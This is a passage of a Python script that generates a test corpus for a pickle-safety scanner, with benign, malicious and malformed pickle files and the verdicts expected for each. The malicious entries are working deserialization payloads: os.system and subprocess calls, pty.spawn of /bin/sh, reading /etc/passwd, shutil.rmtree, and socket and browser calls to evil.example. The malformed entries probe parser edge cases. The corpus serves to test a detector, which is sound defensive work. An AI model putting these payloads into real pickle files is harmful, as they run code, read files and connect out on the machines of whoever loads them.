    m('p2_runpy', PROTO(2) + GLOBAL('runpy', '_run_code') + BU('import os') +
      b'}\x86R.', 'runpy._run_code(code, globals)')
    m('p3_importlib', PROTO(3) + GLOBAL('importlib', 'import_module') + BU('os') +
      b'\x85R.', 'importlib.import_module("os")')
    m('p2_ctypes_cdll', PROTO(2) + GLOBAL('ctypes', 'CDLL') + BU('libc.so.6') +
      b'\x85R.', 'ctypes.CDLL')
    m('p2_socket', PROTO(2) + GLOBAL('socket', 'create_connection') +
      BU('evil.example') + b'M\x50\x00\x86\x85R.', 'socket.create_connection')
    m('p2_shutil_rmtree', PROTO(2) + GLOBAL('shutil', 'rmtree') +
      BU('/nonexistent/pickleguard') + b'\x85R.', 'shutil.rmtree')
    m('p2_webbrowser', PROTO(2) + GLOBAL('webbrowser', 'open') +
      BU('http://evil.example/') + b'\x85R.', 'webbrowser.open')
    m('p2_code_interpreter', PROTO(2) + GLOBAL('code', 'InteractiveInterpreter') +
      b')R.', 'code.InteractiveInterpreter()')
    m('p2_timeit', PROTO(2) + GLOBAL('timeit', 'timeit') +
      BU("__import__('os').system('id')") + b'\x85R.', 'timeit.timeit(stmt)')
    m('p2_pty_spawn', PROTO(2) + GLOBAL('pty', 'spawn') + BU('/bin/sh') +
      b'\x85R.', 'pty.spawn')
    m('p2_torch_load', PROTO(2) + GLOBAL('torch', 'load') + BU('/tmp/x.pt') +
      b'\x85R.', 'torch.load of another file (error here: torch not installed)',
      cpython='error')
    m('p2_attrgetter', PROTO(2) + GLOBAL('operator', 'attrgetter') +
      BU('os.system') + b'\x85R' + GLOBAL('os', 'path') + b'\x85R.',
      'operator.attrgetter("os.system")(os.path module object)')
    m('p2_partial_os_system', PROTO(2) + GLOBAL('functools', 'partial') +
      GLOBAL('os', 'system') + BU(CMD) + b'\x86R)R.',
      'functools.partial(os.system, cmd)()')
    m('p2_copyreg_newobj_popen', PROTO(2) + GLOBAL('copyreg', '__newobj__') +
      GLOBAL('subprocess', 'Popen') + b'\x85R.',
      'copyreg.__newobj__(subprocess.Popen)')
    m('p0_builtins_open', b"c__builtin__\nopen\n(S'/etc/passwd'\ntR.",
      'builtins.open')
    m('p2_marshal_loads', PROTO(2) + GLOBAL('marshal', 'loads') +
      BB(b'\xe9\x00\x00\x00\x00') + b'\x85R.',
      'marshal.loads (nested deserializer)', cpython='ok')
    m('p2_sys_modules', PROTO(2) + GLOBAL('sys', 'modules') + b'.',
      'sys.modules referenced (interpreter state)')
    m('p0_commands_compat', b"ccommands\ngetoutput\n(S'id'\ntR.",
      'commands.getoutput: compat rename to subprocess.getoutput at protocol 0')
    m('p4_sg_nonconstant', PROTO(4) + SBU('o') + SBU('s') + b'\x86' +
      SBU('system') + b'\x93.',
      'STACK_GLOBAL with a tuple as module operand (non-constant): CPython '
      'errors, scanner flags it', cpython='error', scan='high')


def add_malformed(c):
    def m(name, data, note, scan='medium', ld='malformed', ls='malformed',
          cpython=None):
        if cpython is None:
            cpython = cpython_loads(data)
        if scan == 'medium' and fails_before_running(data):
            scan = 'info'
        c.add('malformed/%s.pkl' % name, data, 'malformed', cpython, scan, ld,
              ls, note)

    # truncations of benign pickles
    srcs = {
        'p0_list': pickle.dumps([1, 'ab', 2.5], protocol=0),
        'p2_dict': pickle.dumps({'key': 'value', 'n': 123456}, protocol=2),
        'p3_bytes': pickle.dumps([b'abcdef'], protocol=3),
        'p4_framed': pickle.dumps(['alpha', 'beta', 2**70], protocol=4),
        'p5_bytearray': pickle.dumps(bytearray(b'0123456789'), protocol=5),
    }
    for sname, full in srcs.items():
        ops = list(pickletools.genops(io.BytesIO(full)))
        cuts = {}
        cuts['before_stop'] = len(full) - 1
        for op, arg, pos in ops:
            if op.name in ('BINUNICODE', 'SHORT_BINUNICODE', 'BINBYTES',
                           'SHORT_BINBYTES', 'BYTEARRAY8') and 'payload' not in cuts:
                hdr = {'BINUNICODE': 5, 'BINBYTES': 5, 'BYTEARRAY8': 9}.get(
                    op.name, 2)
                cuts['payload'] = pos + hdr + 1
                if hdr > 2:
                    cuts['length'] = pos + 3
            if op.name == 'FRAME' and 'frame_header' not in cuts:
                cuts['frame_header'] = pos + 4
            if op.name in ('INT', 'FLOAT', 'STRING', 'UNICODE') and 'text' not in cuts:
                cuts['text'] = pos + 2
            if op.name == 'LONG1' and 'long1' not in cuts:
                cuts['long1'] = pos + 3
        cuts['mid'] = len(full) // 2
        seen = set()
        for cname, at in sorted(cuts.items()):
            if at in seen:  # two names for one cut point: keep the first
                continue
            seen.add(at)
            m('trunc_%s_%s' % (sname, cname), full[:at],
              'benign %s cut at byte %d of %d (%s)' % (sname, at, len(full), cname))

    # declared lengths far beyond tiny files
    m('len_binunicode_2p31', PROTO(2) + b'X' + u32(2**31) + b'abc.',
      'BINUNICODE declares 2^31 bytes in a 12-byte file')
    m('len_binbytes_2p32m1', PROTO(3) + b'B' + u32(2**32 - 1) + b'abc.',
      'BINBYTES declares 2^32-1 bytes')
    m('len_binstring_2p31', b'T' + u32(2**31) + b'abc.',
      'BINSTRING declares 2^31 bytes (negative as int4 for pickle.py)')
    m('len_binunicode8_2p63', PROTO(4) + b'\x8d' + u64(2**63) + b'abc.',
      'BINUNICODE8 declares 2^63 bytes in a 16-byte file')
    m('len_binbytes8_2p63', PROTO(4) + b'\x8e' + u64(2**63) + b'abc.',
      'BINBYTES8 declares 2^63 bytes')
    m('len_bytearray8_2p64m1', PROTO(5) + b'\x96' + u64(2**64 - 1) + b'abc.',
      'BYTEARRAY8 declares 2^64-1 bytes')
    m('len_frame_2p63', PROTO(4) + FRAME(2**63) + b'K\x01.',
      'FRAME declares 2^63 bytes')
    m('len_long4_2p31m1', PROTO(2) + b'\x8b' + u32(2**31 - 1) + b'\x01.',
      'LONG4 declares 2^31-1 bytes')
    m('len_long4_negative', PROTO(2) + b'\x8b\xff\xff\xff\xff.',
      'LONG4 with a negative byte count')
    m('len_short_binunicode', PROTO(4) + b'\x8c\x10abc.',
      'SHORT_BINUNICODE declares 16 bytes, 4 remain')
    # stack and mark
    m('underflow_append_empty', b'a.', 'APPEND on an empty stack')
    m('underflow_tuple1_empty', PROTO(2) + b'\x85.', 'TUPLE1 with nothing on the stack')
    m('underflow_pop_empty', b'0.', 'POP on an empty stack')
    m('underflow_setitem', b'}K\x01s.', 'SETITEM with only a dict and a key')
    m('underflow_stop_empty', b'.', 'STOP with nothing to return')
    m('nomark_tuple', b'K\x01t.', 'TUPLE without a MARK')
    m('nomark_appends', b']K\x01e.', 'APPENDS without a MARK')
    m('nomark_pop_mark', PROTO(2) + b'1.', 'POP_MARK without a MARK')
    m('stop_open_mark', b'(K\x01.',
      'STOP with a MARK still open: CPython returns 1, pickletools.dis complains')
    m('stop_stack_not_empty', b'K\x01K\x02.',
      'STOP with two values on the stack: CPython returns 2, pickletools.dis complains')
    # memo
    m('memo_get_missing', b'g5\n.', 'GET of a key never stored')
    m('memo_binget_missing', b'K\x01q\x00h\x01.', 'BINGET of a key never stored')
    m('memo_long_binget_missing', b'j\x05\x00\x00\x00.',
      'LONG_BINGET of a key never stored')
    m('memo_put_negative', b'I1\np-1\n.', 'PUT with a negative key')
    m('memo_put_empty', PROTO(4) + b'\x94.', 'MEMOIZE on an empty stack')
    # text and UTF-8
    m('utf8_binunicode_bad', PROTO(2) + b'X\x02\x00\x00\x00\xc3(.',
      'BINUNICODE with invalid UTF-8')
    m('utf8_short_binunicode_ff', PROTO(4) + b'\x8c\x01\xff.',
      'SHORT_BINUNICODE with byte 0xff')
    m('utf8_overlong', PROTO(4) + b'\x8c\x02\xc0\xaf.',
      'SHORT_BINUNICODE with an overlong encoding of "/"')
    m('utf8_global_surrogate', b'cos\xed\xa0\x80\nsystem\n.',
      'GLOBAL module name with an encoded surrogate (strict UTF-8 refuses)',
      cpython='error')
    m('inst_non_ascii', b'(i\xc3\xa9\nPoint\n.',
      'INST with a UTF-8 module name: both unpicklers decode INST lines as '
      'ASCII (the reader once accepted UTF-8 here)', cpython='error')
    # opcodes, protocol, STOP
    m('unknown_opcode_ff', b'\xff', 'byte 0xff is no opcode')
    m('unknown_opcode_nul', PROTO(4) + b'K\x01\x00.', 'byte 0x00 after a value')
    m('unknown_opcode_a0', PROTO(4) + b'\xa0.', 'byte 0xa0 is no opcode')
    m('missing_stop', PROTO(2) + b'K\x01', 'no STOP at the end')
    m('missing_stop_p0', b'(I1\nl', 'protocol 0 list without STOP')
    m('proto_6', PROTO(6) + b'K\x01.', 'PROTO 6 is beyond protocol 5')
    m('proto_255', PROTO(255) + b'N.', 'PROTO 255')
    m('empty_file', b'', 'empty input')
    m('trailing_garbage', PROTO(2) + b'K\x01.garbage',
      'a valid pickle then bytes that are no pickle')
    # frames
    m('frame_beyond_end', PROTO(4) + FRAME(16) + b'K\x01.',
      'FRAME length beyond the end of the file')
    m('frame_crossing', PROTO(4) + FRAME(2) + b'X\x03\x00\x00\x00abc.',
      'BINUNICODE starts in a 2-byte frame and ends outside it: _pickle '
      'accepts, pickle.py raises', scan='high')
    m('frame_nested', PROTO(4) + FRAME(12) + b'K\x01' + FRAME(1) + b'.',
      'a FRAME inside an unfinished frame: _pickle accepts, pickle.py raises',
      scan='high')
    m('frame_stop_early', PROTO(4) + FRAME(6) + b'K\x01.K\x02.' + b'K\x03.',
      'STOP 3 bytes before its frame ends: sequential pickle.load skips '
      'K\\x02. (the frame is read whole) and loads 3 next; a reader going '
      'on after STOP would parse bytes CPython never reads', scan='high')
    # numbers and strings in text form
    m('int_leading_zero', b'I010\n.', 'INT "010": 8 for _pickle.c, an error for pickle.py')
    m('int_minus_zero', b'I-0\n.', 'INT "-0": False for _pickle.c, 0 for pickle.py')
    m('int_plus_one', b'I+1\n.', 'INT "+1": True for _pickle.c, 1 for pickle.py')
    m('int_space', b'I 1\n.', 'INT " 1": True for _pickle.c, 1 for pickle.py')
    m('int_junk', b'I12a\n.', 'INT with a trailing letter')
    m('int_no_newline', b'I12', 'INT without its newline')
    m('long_leading_zero', b'L010\n.', 'LONG "010"')
    m('float_bad_text', b'Fabc\n.', 'FLOAT "abc"')
    m('float_overflow', b'F1e999\n.', 'FLOAT "1e999": OverflowError in _pickle.c, inf in pickle.py')
    m('float_space', b'F 1.5\n.', 'FLOAT " 1.5": _pickle.c refuses, pickle.py accepts')
    m('float_underscore', b'F1_0\n.', 'FLOAT "1_0": _pickle.c refuses, pickle.py accepts')
    m('string_bad_hex_escape', b"S'\\x4'\n.", 'STRING with a short \\x escape')
    m('string_unquoted', b'Sabc\n.', 'STRING without quotes')
    m('string_mismatched_quotes', b"S'abc\"\n.", 'STRING with different quotes')
    m('string_trailing_backslash', b"S'abc\\'\n.", 'STRING ending in a lone backslash')
    m('unicode_short_u_escape', b'V\\u00\n.', 'UNICODE with a truncated \\u escape')
    m('unicode_big_U_escape', b'V\\U00110000\n.', 'UNICODE \\U escape above U+10FFFF')


def main(argv):
    if len(argv) != 2:
        sys.stderr.write('usage: gen.py CORPUS_DIR\n')
        return 2
    c = Corpus()
    add_benign(c)
    add_hand_benign(c)
    add_malicious(c)
    add_malformed(c)
    c.write(argv[1])
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
